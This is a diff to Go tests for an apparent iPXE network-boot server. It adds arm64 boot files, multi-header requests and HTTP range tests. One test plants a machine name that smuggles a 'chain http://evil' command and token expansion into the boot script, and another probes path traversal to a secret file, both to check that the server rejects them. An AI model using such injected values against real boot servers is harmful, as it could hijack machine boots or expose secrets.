@@ -36,7 +36,11 @@ func handlerOf(t *testing.T, l *ledger) *rack {
 	t.Helper()
 	files := t.TempDir()
 	r := &rack{ledger: l, files: files}
-	for name, content := range map[string]string{"vmlinuz": "the kernel", "initrd": "the initrd", "snponly.efi": "the loader", "shim": "the shim", "grub": "the grub", "secret": "no"} {
+	if err := os.Mkdir(filepath.Join(files, "arm64"), 0o700); err != nil {
+		t.Fatal(err)
+	}
+	for name, content := range map[string]string{"vmlinuz": "the kernel", "initrd": "the initrd", "snponly.efi": "the loader", "shim": "the shim", "grub": "the grub", "secret": "no",
+		"arm64/vmlinuz": "the arm64 kernel", "arm64/initrd": "the arm64 initrd", "arm64/shimaa64.efi": "the arm64 shim", "arm64/grubaa64.efi": "the arm64 grub"} {
 		if err := os.WriteFile(filepath.Join(files, name), []byte(content), 0o600); err != nil {
 			t.Fatal(err)
 		}
@@ -52,12 +56,12 @@ func handlerOf(t *testing.T, l *ledger) *rack {
 	return r
 }
 
-// do asks from an address and returns what is answered.
+// do asks from an address, with names and values of headers, and returns what is answered.
 func (r *rack) do(method, path, from string, header ...string) *httptest.ResponseRecorder {
 	q := httptest.NewRequest(method, path, nil)
 	q.RemoteAddr = from + ":40000"
-	if len(header) == 2 {
-		q.Header.Set(header[0], header[1])
+	for i := 0; i+1 < len(header); i += 2 {
+		q.Header.Set(header[i], header[i+1])
 	}
 	w := httptest.NewRecorder()
 	r.ServeHTTP(w, q)
@@ -76,6 +80,9 @@ func TestScript(t *testing.T) {
 			"#!ipxe\n", "echo Sprout: web-01 boots the ramdisk to deploy\n", "boot attempt att_1\n",
 			"kernel http://10.0.0.1:8080/boot/vmlinuz initrd=initrd sprout.url=http://10.0.0.1:8080 sprout.token=TOKEN1 BOOTIF=01-52-54-00-00-00-01 ip=none panic=30 console=ttyS0 console=tty0 quiet ||",
 			"initrd --name initrd http://10.0.0.1:8080/boot/initrd ||",
+			"iseq ${buildarch} arm64 && goto arm64 ||",
+			"kernel http://10.0.0.1:8080/boot/arm64/vmlinuz initrd=initrd sprout.url=http://10.0.0.1:8080 sprout.token=TOKEN1 BOOTIF=01-52-54-00-00-00-01 ip=none panic=30 console=ttyS0 console=tty0 quiet ||",
+			"initrd --name initrd http://10.0.0.1:8080/boot/arm64/initrd ||",
 		}, "exit"},
 		"/boot/52:54:00:00:00:01.ipxe": {"10.0.0.5", 200, []string{"TOKEN1"}, "exit"},
 		"/boot/52-54-00-00-00-02.ipxe": {"10.0.0.101", 200, []string{"#!ipxe\n", "echo Sprout: db-01 has no boot intent", "exit 0", "exit 1"}, "token"},
@@ -123,13 +130,18 @@ func TestNamesAreNoCommands(t *testing.T) {
 	r := handler(t)
 	r.ledger.known[web01] = sprout.SiteMachine{ID: "mch_1", Name: "x\nchain http://evil && ${token}"}
 	w := r.do("GET", "/boot/52-54-00-00-00-01.ipxe", "10.0.0.5")
-	if strings.Contains(w.Body.String(), "\nchain") || strings.Contains(w.Body.String(), "${") || strings.Contains(w.Body.String(), "&&") {
+	said, _, _ := strings.Cut(w.Body.String(), ":again")
+	if strings.Contains(w.Body.String(), "\nchain") || strings.Contains(said, "${") || strings.Contains(said, "&&") {
 		t.Errorf("a name became a command:\n%s", w.Body)
 	}
 }
 
 func TestFiles(t *testing.T) {
 	r := handler(t)
+	if w := r.do("GET", "/boot/arm64/vmlinuz", "10.0.0.101"); w.Code != 200 || w.Body.String() != "the arm64 kernel" {
+		t.Errorf("kernel of arm64: %d %s", w.Code, w.Body)
+	}
+	r.events = nil
 	if w := r.do("GET", "/boot/vmlinuz", "10.0.0.101"); w.Code != 200 || w.Body.String() != "the kernel" {
 		t.Errorf("%d: %s", w.Code, w.Body)
 	}
@@ -144,7 +156,7 @@ func TestFiles(t *testing.T) {
 		t.Errorf("events %q, want %q: a HEAD is none", r.events, want)
 	}
 	for path, status := range map[string]int{
-		"/boot/undionly.kpxe": 404, "/boot/secret": 404, "/boot/..%2fsecret": 404, "/boot/": 404, "/": 404, "/boot/vmlinuz/x": 404,
+		"/boot/undionly.kpxe": 404, "/boot/secret": 404, "/boot/..%2fsecret": 404, "/boot/": 404, "/": 404, "/boot/vmlinuz/x": 404, "/boot/arm64/secret": 404, "/boot/arm64/": 404,
 	} {
 		if w := r.do("GET", path, "10.0.0.101"); w.Code != status {
 			t.Errorf("%s: %d, want %d", path, w.Code, status)
@@ -152,5 +164,31 @@ func TestFiles(t *testing.T) {
 	}
 	if w := r.do("POST", "/boot/vmlinuz", "10.0.0.101"); w.Code != 405 {
 		t.Errorf("POST: %d", w.Code)
+	}
+}
+
+// What a client has of a file it need not fetch again, and what it has of another
+// version is of no use (RFC 9110, sections 13 and 14).
+func TestRanges(t *testing.T) {
+	r := handler(t)
+	then := r.do("HEAD", "/boot/initrd", "10.0.0.101").Header().Get("Last-Modified")
+	for name, c := range map[string]struct {
+		header []string
+		status int
+		body   string
+		where  string // Content-Range
+	}{
+		"the last bytes":  {[]string{"Range", "bytes=-3"}, 206, "trd", "bytes 7-9/10"},
+		"up to the end":   {[]string{"Range", "bytes=4-99"}, 206, "initrd", "bytes 4-9/10"},
+		"two pieces":      {[]string{"Range", "bytes=0-2,4-"}, 206, "Content-Range: bytes 4-9/10\r\nContent-Type: application/octet-stream\r\n\r\ninitrd\r\n", ""},
+		"past the end":    {[]string{"Range", "bytes=10-"}, 416, "", "bytes */10"},
+		"the same still":  {[]string{"Range", "bytes=4-", "If-Range", then}, 206, "initrd", "bytes 4-9/10"},
+		"another version": {[]string{"Range", "bytes=4-", "If-Range", "Thu, 01 Jan 1970 00:00:00 GMT"}, 200, "the initrd", ""},
+		"nothing new":     {[]string{"If-Modified-Since", then}, 304, "", ""},
+	} {
+		w := r.do("GET", "/boot/initrd", "10.0.0.101", c.header...)
+		if w.Code != c.status || !strings.Contains(w.Body.String(), c.body) || w.Header().Get("Content-Range") != c.where {
+			t.Errorf("%s: %d, %q: %q", name, w.Code, w.Header().Get("Content-Range"), w.Body)
+		}
 	}
 }
